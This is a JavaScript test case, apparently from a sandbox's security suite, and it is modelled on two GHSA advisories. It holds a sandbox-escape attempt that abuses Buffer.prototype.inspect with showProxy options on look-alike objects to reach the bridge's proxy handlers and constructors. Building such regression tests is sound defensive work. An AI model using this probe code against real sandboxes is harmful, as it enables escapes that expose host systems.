import { attack } from '../attack.js';

export const inspectShowsProxies = attack({
  class: 'buffers',
  name: 'Buffer.prototype.inspect on look-alikes shows the handlers of the bridge',
  modelled_on: 'GHSA-v37h-5mfm-c47c and GHSA-qcp4-v2jj-fjx8',
  attempt: `
    const B = globalThis.Buffer; const apply = Function.prototype.call.bind(Function.prototype.apply);
    const seen = []; const take = (list) => { for (const item of list ?? []) { probe(item, 'seen'); seen.push(item); for (const key of Reflect.ownKeys(Object(item))) try { probe(item[key], String(key)) } catch {} for (let p = item; p && p !== Object.prototype; p = Object.getPrototypeOf(p)) { probe(p, 'handler'); try { probe(new p.constructor({}), 'made') } catch (e) { probe(e, 'e') } for (const key of Object.getOwnPropertyNames(p)) try { const got = typeof p[key] === 'function' && key !== 'constructor' ? item[key](console.log, 'constructor') : undefined; probe(got, key); probe(item[key]?.({ __proto__: null, x: console.log }), key) } catch (e) { probe(e, key) } } } };
    const options = { showHidden: true, showProxy: true, depth: 10, stylize(text) { take(this?.seen); return text } };
    for (const inspect of [B?.prototype.inspect, B?.prototype.slice, ...Object.getOwnPropertySymbols(B?.prototype ?? {}).map((k) => B.prototype[k])]) { if (typeof inspect !== 'function') continue; for (const like of [{ subarray: inspect, slice: inspect, hexSlice: () => '', l: { __proto__: null }, length: 1 }, B?.of?.(1)]) for (const args of [[20, options], [2, options, (v) => { probe(v, 'inspect'); return 'x' }]]) { try { probe(apply(inspect, like, args), 'answer') } catch (e) { probe(e, 'e') } try { probe(like.slice?.(...args), 'answer') } catch (e) { probe(e, 'e') } } }`,
});
